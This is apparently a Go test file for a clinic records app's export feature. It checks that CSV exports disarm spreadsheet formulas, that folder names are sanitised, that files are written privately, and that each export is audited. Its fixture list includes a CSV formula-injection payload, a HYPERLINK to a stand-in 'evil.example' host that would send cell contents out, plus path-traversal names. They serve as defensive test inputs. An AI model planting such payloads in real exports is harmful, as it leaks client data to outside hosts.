package transfer

import (
	"bytes"
	"context"
	"encoding/csv"
	"errors"
	"flag"
	"fmt"
	"io"
	"needledesk/data"
	"os"
	"path/filepath"
	"reflect"
	"runtime"
	"slices"
	"strings"
	"testing"
	"time"
)

var updateGolden = flag.Bool("update", false, "rewrite the golden export files in testdata")

var exportAt = time.Date(2026, time.November, 22, 15, 4, 5, 0, time.UTC)

// hostile are texts that have broken exports elsewhere: formulas, quotes,
// separators, line breaks, scripts other than Latin.
var hostile = []string{
	"=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+44 20 7946 0958", "-2+3", "@SUM(A1:A9)",
	"\tindented", "\rreturn", "a, b; c", `say "hi"`, "line one\nline two", "王芳", "Zoë Łukasz-Ó'Brien",
	"", " =leading space", "'already quoted",
}

func exportRecord() data.ClientRecord {
	c := validClient()
	c.ID, c.Address, c.Notes = 42, "1 Rue de l'Église\nParis", "=1+1 prefers mornings, \"quiet\" room"
	c.SkinType, c.Concerns = 3, []data.Concern{data.ConcernAcneScars, data.ConcernLines}
	c.Allergies, c.Contra.Isotretinoin, c.Contra.IsotretinoinStopped = "nickel", true, data.NewDate(2025, 1, 10)
	c.Consent = data.Consent{SignedOn: data.NewDate(2026, 1, 5), FormVersion: "v3"}
	c.EmailReminders = true
	c.CreatedAt, c.UpdatedAt = exportAt.Add(-72*time.Hour), exportAt.Add(-time.Hour)
	older := validSession()
	older.ID, older.ClientID, older.TechnicianName = 7, 42, "Priya Raman"
	older.StartedAt = time.Date(2026, 10, 1, 9, 0, 0, 0, time.UTC)
	older.Recommendations = []data.Recommendation{{ProductID: 3, StartDay: 7, Product: data.Product{ID: 3, Name: "C-Glow", Brand: "Lumen"}}}
	newer := validSession()
	newer.ID, newer.ClientID, newer.TechnicianName = 9, 42, "Priya Raman"
	newer.StartedAt = time.Date(2026, 11, 20, 16, 30, 0, 0, time.UTC)
	newer.Areas = []data.AreaTreatment{{Area: data.AreaCheeks, DepthMM: 1}, {Area: data.AreaForehead, DepthMM: 0.5}}
	newer.Warnings, newer.OverrideReason = []string{"Isotretinoin stopped recently"}, "Doctor's letter"
	pdf1, pdf2 := []byte("%PDF-1.4 first"), []byte("%PDF-1.4 second \x00\xff")
	return data.ClientRecord{
		Client:   c,
		Sessions: []data.Session{newer, older}, // the store's order, newest first
		Sheets: []data.KeptSheet{
			{SheetInfo: data.SheetInfo{ID: 2, SessionID: 9, Version: 1, MadeAt: newer.StartedAt.Add(time.Hour), MadeBy: 5, MadeByName: "Priya Raman", SHA256: data.SumPDF(pdf2), Size: len(pdf2)}, PDF: pdf2},
			{SheetInfo: data.SheetInfo{ID: 1, SessionID: 7, Version: 1, MadeAt: older.StartedAt.Add(time.Hour), MadeBy: 5, MadeByName: "Priya Raman", SHA256: data.SumPDF(pdf1), Size: len(pdf1)}, PDF: pdf1},
		},
	}
}

func TestSpreadsheetSafe(t *testing.T) {
	for in, want := range map[string]string{
		"=1+1": "'=1+1", "+44 20": "'+44 20", "-5": "'-5", "@SUM(A1)": "'@SUM(A1)", "\tx": "'\tx", "\rx": "'\rx",
		"": "", "Zoë": "Zoë", " =1": " =1", "1=1": "1=1", "'=1": "'=1", "王芳": "王芳",
	} {
		if got := SpreadsheetSafe(in); got != want {
			t.Errorf("SpreadsheetSafe(%q) = %q; want %q", in, got, want)
		}
	}
}

// readCSV parses a table written by CSVTable, checking the byte order mark.
func readCSV(t *testing.T, b []byte) [][]string {
	t.Helper()
	if !bytes.HasPrefix(b, []byte("\ufeff")) {
		t.Fatalf("no UTF-8 byte order mark: %q", b[:min(len(b), 10)])
	}
	rows, err := csv.NewReader(bytes.NewReader(b[3:])).ReadAll()
	if err != nil {
		t.Fatalf("the table does not read back: %v", err)
	}
	return rows
}

func TestClientsCSVKeepsEveryTextAndDisarmsFormulas(t *testing.T) {
	var buf bytes.Buffer
	table, err := NewClientsCSV(&buf, time.UTC)
	if err != nil {
		t.Fatal(err)
	}
	for i, h := range hostile {
		c := exportRecord().Client
		c.ID, c.GivenName, c.Notes, c.Address = int64(i+1), h, h, h
		if err := table.Write(c); err != nil {
			t.Fatal(err)
		}
	}
	if err := table.Flush(); err != nil {
		t.Fatal(err)
	}
	rows := readCSV(t, buf.Bytes())
	if !slices.Equal(rows[0], table.Columns()) || len(rows) != len(hostile)+1 {
		t.Fatalf("header %v and %d rows; want %v and %d rows", rows[0], len(rows), table.Columns(), len(hostile)+1)
	}
	col := map[string]int{}
	for i, name := range rows[0] {
		col[name] = i
	}
	for i, h := range hostile {
		row := rows[i+1]
		want := SpreadsheetSafe(h)
		for _, name := range []string{"given_name", "notes", "address"} {
			if got := row[col[name]]; got != want {
				t.Errorf("%s of row %d = %q; want %q", name, i+1, got, want)
			}
		}
		for _, cell := range row {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("row %d has a cell a spreadsheet would run: %q", i+1, cell)
			}
		}
	}
	first := rows[1]
	for name, want := range map[string]string{
		"skin_type": "III", "concerns": "Acne scars; Fine lines and wrinkles", "isotretinoin": "yes",
		"isotretinoin_stopped": "2025-01-10", "pregnant_or_nursing": "no", "date_of_birth": "1990-03-14",
		"created_at": "2026-11-19 15:04", "archived_at": "", "phone": "'+44 20 7946 0958", "email_reminders": "yes",
	} {
		if got := first[col[name]]; got != want {
			t.Errorf("%s = %q; want %q", name, got, want)
		}
	}
}

func TestSessionsCSVOneRowPerSessionWithAreasInOneCell(t *testing.T) {
	rec := exportRecord()
	var buf bytes.Buffer
	paris, err := time.LoadLocation("Europe/Paris")
	if err != nil {
		t.Skip("no time zone data:", err)
	}
	if err := writeTable(&buf, paris, NewSessionsCSV, rec.Sessions); err != nil {
		t.Fatal(err)
	}
	rows := readCSV(t, buf.Bytes())
	if len(rows) != 3 {
		t.Fatalf("%d rows; want a header and 2 sessions", len(rows))
	}
	col := map[string]int{}
	for i, name := range rows[0] {
		col[name] = i
	}
	got := rows[1]
	for name, want := range map[string]string{
		"id": "9", "client_id": "42", "started_at": "2026-11-20 17:30", "technician": "Priya Raman",
		"areas": "Cheeks: 1 mm; Forehead: 0.5 mm", "warnings": "Isotretinoin stopped recently",
		"override_reason": "Doctor's letter", "next_due": rec.Sessions[0].NextDue.String(),
	} {
		if got[col[name]] != want {
			t.Errorf("%s = %q; want %q", name, got[col[name]], want)
		}
	}
	if r := rows[2][col["recommendations"]]; r != "C-Glow (Lumen) from day 7" {
		t.Errorf("recommendations = %q", r)
	}
}

// The JSON's field names are a promise to other programs; the golden file
// holds them. Run with -update after a deliberate change, and only add.
func TestClientExportJSONIsStable(t *testing.T) {
	x := NewClientExport(exportRecord(), exportAt, time.UTC)
	var buf bytes.Buffer
	if err := x.WriteJSON(&buf); err != nil {
		t.Fatal(err)
	}
	golden := filepath.Join("testdata", "export", "record.json")
	if *updateGolden {
		if err := os.MkdirAll(filepath.Dir(golden), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(golden, buf.Bytes(), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	want, err := os.ReadFile(golden)
	if err != nil {
		t.Fatalf("%v (run go test -run TestClientExportJSONIsStable -update ./data/ once)", err)
	}
	if !bytes.Equal(buf.Bytes(), want) {
		t.Errorf("record.json differs from %s:\n%s", golden, buf.String())
	}
	for _, exact := range []string{`"given_name": "Zoë"`, `"email_reminders": true`, `"notes": "=1+1 prefers mornings, \"quiet\" room"`, `"sessions": [`} {
		if !strings.Contains(buf.String(), exact) {
			t.Errorf("record.json lacks %s", exact)
		}
	}
	back, err := ReadClientExport(&buf)
	if err != nil {
		t.Fatal(err)
	}
	x.Sheets = stripPDF(x.Sheets)
	if !reflect.DeepEqual(back, x) {
		t.Errorf("record.json read back differently:\n%+v\n%+v", back, x)
	}
	if x.Sessions[0].ID != 7 || x.Sheets[0].File != "sheets/2026-10-01-session-7-v1.pdf" {
		t.Errorf("sessions and sheets are not oldest first: %d, %s", x.Sessions[0].ID, x.Sheets[0].File)
	}
}

func stripPDF(sheets []ExportedSheet) []ExportedSheet {
	out := slices.Clone(sheets)
	for i := range out {
		out[i].pdf = nil
	}
	return out
}

func TestReadClientExportRefusesOtherFiles(t *testing.T) {
	for _, in := range []string{`{}`, `{"format":"needledesk-client-export","version":99}`, `[`, ``} {
		if _, err := ReadClientExport(strings.NewReader(in)); err == nil {
			t.Errorf("%q was read as an export", in)
		}
	}
}

func TestExportFolderName(t *testing.T) {
	day := data.NewDate(2026, 11, 22)
	for _, tc := range []struct{ given, family, want string }{
		{"Zoë", "O'Brien", "client-42-zoe-obrien-2026-11-22"},
		{"芳", "王", "client-42-王芳-2026-11-22"},
		{"José-María", "de la Cruz", "client-42-jose-maria-de-la-cruz-2026-11-22"},
		{"a/../b", "c\\d:e", "client-42-a-b-c-d-e-2026-11-22"},
		{"...", "", "client-42-2026-11-22"},
		{strings.Repeat("Ab", 50), "", "client-42-" + strings.Repeat("ab", 20) + "-2026-11-22"},
	} {
		c := data.Client{ID: 42, GivenName: tc.given, FamilyName: tc.family}
		if got := ExportFolderName(c, day); got != tc.want {
			t.Errorf("%s %s: %q; want %q", tc.given, tc.family, got, tc.want)
		}
	}
}

// fakeSource is an ExportSource over values in memory.
type fakeSource struct {
	rec      data.ClientRecord
	clients  []data.Client
	sessions []data.Session
	events   []data.AuditEvent
	eventErr error
	authErr  error
}

func (f *fakeSource) Authorize(context.Context, int64, data.Permission) error { return f.authErr }

func (f *fakeSource) ClientRecord(_ context.Context, id int64) (data.ClientRecord, error) {
	if id != f.rec.Client.ID {
		return data.ClientRecord{}, fmt.Errorf("client %d: %w", id, data.ErrNotFound)
	}
	return f.rec, nil
}

func (f *fakeSource) WalkClinic(_ context.Context, w data.ClinicWalker) error {
	if err := w.Totals(len(f.clients), len(f.sessions)); err != nil {
		return err
	}
	for _, c := range f.clients {
		if err := w.Client(c); err != nil {
			return err
		}
	}
	for _, s := range f.sessions {
		if err := w.Session(s); err != nil {
			return err
		}
	}
	return nil
}

func (f *fakeSource) RecordExport(_ context.Context, actor int64, entity data.Entity, clientID int64, detail string) error {
	if f.eventErr != nil {
		return f.eventErr
	}
	e := data.AuditEvent{ActorID: actor, Action: data.ActionExport, Entity: entity, ClientID: clientID, Detail: detail}
	if entity == data.EntityClient {
		e.EntityID = clientID
	}
	f.events = append(f.events, e)
	return nil
}

func exporter(src data.ExportSource) Exporter {
	return Exporter{Source: src, Now: func() time.Time { return exportAt }, Location: time.UTC}
}

// listDir lists every file and folder under dir with its mode.
func listDir(t *testing.T, dir string) map[string]os.FileMode {
	t.Helper()
	out := map[string]os.FileMode{}
	err := filepath.WalkDir(dir, func(p string, d os.DirEntry, err error) error {
		if err != nil || p == dir {
			return err
		}
		info, err := d.Info()
		if err != nil {
			return err
		}
		rel, _ := filepath.Rel(dir, p)
		out[filepath.ToSlash(rel)] = info.Mode()
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	return out
}

func TestExportClientWritesTheWholeRecordPrivately(t *testing.T) {
	src := &fakeSource{rec: exportRecord()}
	out := filepath.Join(t.TempDir(), "exports")
	res, err := exporter(src).ExportClient(t.Context(), 5, 42, out)
	if err != nil {
		t.Fatal(err)
	}
	wantDir := filepath.Join(out, "client-42-zoe-obrien-2026-11-22")
	wantFiles := []string{"record.json", "client.csv", "sessions.csv",
		"sheets/2026-10-01-session-7-v1.pdf", "sheets/2026-11-20-session-9-v1.pdf"}
	if res.Dir != wantDir || !slices.Equal(res.Files, wantFiles) || res.Sessions != 2 || res.Sheets != 2 {
		t.Fatalf("result %+v; want %s with %v", res, wantDir, wantFiles)
	}
	got := listDir(t, out)
	if len(got) != len(wantFiles)+2 { // the folder and sheets/
		t.Errorf("the export folder holds %v", got)
	}
	for p, mode := range got {
		want := os.FileMode(0o600)
		if mode.IsDir() {
			want = 0o700
		}
		if runtime.GOOS != "windows" && mode.Perm() != want {
			t.Errorf("%s has mode %o; want %o", p, mode.Perm(), want)
		}
	}
	for file, sh := range map[string]data.KeptSheet{wantFiles[3]: src.rec.Sheets[1], wantFiles[4]: src.rec.Sheets[0]} {
		b, err := os.ReadFile(filepath.Join(wantDir, filepath.FromSlash(file)))
		if err != nil || !bytes.Equal(b, sh.PDF) {
			t.Errorf("%s: %v; bytes equal to sheet %d: %v", file, err, sh.ID, bytes.Equal(b, sh.PDF))
		}
	}
	want := data.AuditEvent{ActorID: 5, Action: data.ActionExport, Entity: data.EntityClient, EntityID: 42, ClientID: 42}
	if len(src.events) != 1 {
		t.Fatalf("%d audit events; want 1", len(src.events))
	}
	ev := src.events[0]
	if !strings.Contains(ev.Detail, out) || strings.Contains(ev.Detail, "Zo") || strings.Contains(ev.Detail, "zoe") {
		t.Errorf("audit detail %q should say which folder the export went into, without the client's name", ev.Detail)
	}
	ev.Detail = ""
	if ev != want {
		t.Errorf("audit event %+v; want %+v", ev, want)
	}
}

func TestExportClientNeverOverwritesAnEarlierExport(t *testing.T) {
	src := &fakeSource{rec: exportRecord()}
	out := t.TempDir()
	first, err := exporter(src).ExportClient(t.Context(), 5, 42, out)
	if err != nil {
		t.Fatal(err)
	}
	marker := filepath.Join(first.Dir, "record.json")
	before, _ := os.ReadFile(marker)
	src.rec.Client.Notes = "changed since"
	second, err := exporter(src).ExportClient(t.Context(), 5, 42, out)
	if err != nil {
		t.Fatal(err)
	}
	if second.Dir != first.Dir+"-2" {
		t.Errorf("second export went to %s; want %s-2", second.Dir, first.Dir)
	}
	if after, _ := os.ReadFile(marker); !bytes.Equal(before, after) {
		t.Error("the first export was changed by the second")
	}
}

func TestExportClientUnknownClient(t *testing.T) {
	out := filepath.Join(t.TempDir(), "exports")
	_, err := exporter(&fakeSource{rec: exportRecord()}).ExportClient(t.Context(), 5, 123, out)
	if !errors.Is(err, data.ErrNotFound) || !strings.Contains(err.Error(), "no client with ID 123") {
		t.Fatalf("error %v; want ErrNotFound saying no client with ID 123", err)
	}
	if _, err := os.Stat(out); !errors.Is(err, os.ErrNotExist) {
		t.Errorf("a failed export still made %s", out)
	}
}

func TestExportLeavesNothingWhenItFails(t *testing.T) {
	damaged := exportRecord()
	damaged.Sheets[1].PDF = []byte("%PDF-1.4 changed")
	unrecorded := &fakeSource{rec: exportRecord(), eventErr: errors.New("disk full")}
	for name, run := range map[string]func(dir string) error{
		"damaged sheet": func(dir string) error {
			_, err := exporter(&fakeSource{rec: damaged}).ExportClient(t.Context(), 5, 42, dir)
			return err
		},
		"audit refused": func(dir string) error {
			_, err := exporter(unrecorded).ExportClient(t.Context(), 5, 42, dir)
			return err
		},
		"audit refused, whole clinic": func(dir string) error {
			_, err := exporter(unrecorded).ExportAll(t.Context(), 5, dir, nil)
			return err
		},
		"cancelled": func(dir string) error {
			ctx, cancel := context.WithCancel(t.Context())
			cancel()
			src := &fakeSource{clients: make([]data.Client, 3000)}
			_, err := exporter(src).ExportAll(ctx, 5, dir, nil)
			return err
		},
	} {
		t.Run(name, func(t *testing.T) {
			dir := t.TempDir()
			if err := run(dir); err == nil {
				t.Fatal("the export succeeded")
			}
			if left := listDir(t, dir); len(left) != 0 {
				t.Errorf("a failed export left %v", left)
			}
		})
	}
}

func TestExportAllStreamsEveryRecordWithProgress(t *testing.T) {
	src := &fakeSource{}
	for i := range 2500 {
		c := exportRecord().Client
		c.ID, c.GivenName = int64(i+1), hostile[i%len(hostile)]
		src.clients = append(src.clients, c)
	}
	for i := range 1700 {
		s := validSession()
		s.ID, s.ClientID = int64(i+1), int64(i%2500+1)
		src.sessions = append(src.sessions, s)
	}
	var reports [][2]int
	res, err := exporter(src).ExportAll(t.Context(), 5, t.TempDir(), func(done, total int) {
		reports = append(reports, [2]int{done, total})
	})
	if err != nil {
		t.Fatal(err)
	}
	if filepath.Base(res.Dir) != "all-clients-2026-11-22" || !slices.Equal(res.Files, []string{"clients.csv", "sessions.csv"}) ||
		res.Clients != 2500 || res.Sessions != 1700 {
		t.Fatalf("result %+v", res)
	}
	if len(reports) < 4 || reports[len(reports)-1] != [2]int{4200, 4200} {
		t.Errorf("progress reports %v; want several ending at 4200 of 4200", reports)
	}
	for i := 1; i < len(reports); i++ {
		if reports[i][0] < reports[i-1][0] {
			t.Errorf("progress went back: %v", reports)
		}
	}
	for file, n := range map[string]int{"clients.csv": 2500, "sessions.csv": 1700} {
		b, err := os.ReadFile(filepath.Join(res.Dir, file))
		if err != nil {
			t.Fatal(err)
		}
		if rows := readCSV(t, b); len(rows) != n+1 {
			t.Errorf("%s has %d rows; want %d and a header", file, len(rows)-1, n)
		}
	}
	if len(src.events) != 1 || src.events[0].Entity != data.EntityDatabase || src.events[0].Action != data.ActionExport {
		t.Errorf("audit events %+v; want one export of the database", src.events)
	}
}

var _ io.Writer = (*exportFile)(nil)
